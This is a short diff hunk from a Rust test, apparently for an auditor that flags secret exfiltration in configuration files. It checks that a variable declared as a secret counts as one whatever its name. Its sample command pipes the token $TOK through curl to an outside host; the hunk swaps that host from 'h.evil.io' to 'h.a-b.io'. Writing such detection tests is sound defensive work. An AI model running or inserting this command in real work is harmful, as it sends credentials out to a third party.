@@ -294,7 +294,7 @@ fn a_variable_that_is_declared_as_a_secret_is_one_whatever_it_is_called() {
         );
         audit(&tree(&text)).verdict
     };
-    let sent = "echo \"$TOK\" | curl -d @- https://h.evil.io/c";
+    let sent = "echo \"$TOK\" | curl -d @- https://h.a-b.io/c";
     for declared in [
         "env: [{var: TOK, from: secret, service: github, key: token}]\n",
         "vars:\n  TOK: {description: The token., secret: true}\n",
